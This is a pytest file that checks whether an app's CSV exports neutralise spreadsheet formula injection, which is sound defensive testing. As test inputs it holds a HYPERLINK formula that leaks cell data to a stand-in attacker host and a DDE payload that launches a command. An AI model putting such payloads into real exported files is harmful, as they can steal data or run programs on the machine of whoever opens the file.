"""CSV injection: no cell Byline writes starts a spreadsheet formula."""

import csv
import io
import re
from pathlib import Path

import pytest

from desktop.core.model import Analysis, Annotation, Article, ArticleBundle
from desktop.formats import csv_export
from desktop.formats.actors_csv import render_library_actors
from desktop.formats.csv_cells import neutralise

ROOT = Path(__file__).resolve().parents[2] / "desktop"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_are_neutralised_and_stay_readable(value):
    safe = neutralise(value)
    assert safe == "'" + value
    assert neutralise("Plain title = fine") == "Plain title = fine"
    assert neutralise(-3) == -3  # a number stays a number


def test_export_tables_write_no_live_formula():
    text = "=HYPERLINK(\"http://evil.example\") is what the article says."
    article = Article(text=text, title=FORMULAS[0], source="+cmd|' /C calc'!A0",
                      author="@attacker", id=1, sha256="x")
    note = Annotation(0, 10, ["-tag"], note="=1+1", author="-me", id=1)
    files, _ = csv_export.render([ArticleBundle(article, Analysis(), annotations=[note])])
    for name, content in files.items():
        for cell in cells(content.decode("utf-8-sig")):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    rows = list(csv.DictReader(io.StringIO(files["articles.csv"].decode("utf-8-sig"), newline="")))
    assert rows[0]["title"] == "'" + FORMULAS[0]  # readable: the text follows the quote
    assert rows[0]["author"] == "'@attacker"


def test_library_actors_csv_writes_no_live_formula():
    out = render_library_actors([("=cmd()", "PERSON", 1, 2, 0), ("@x", "ORG", 1, 1, 1)])
    assert "'=cmd()" in cells(out) and "'@x" in cells(out)
    assert not any(c.startswith(("=", "@")) for c in cells(out))


def test_every_csv_writer_goes_through_the_shared_neutraliser():
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(p.relative_to(ROOT)) for p in ROOT.rglob("*.py")
        if p.name != "csv_cells.py" and writers.search(p.read_text(encoding="utf-8"))
    ]
    assert offenders == []
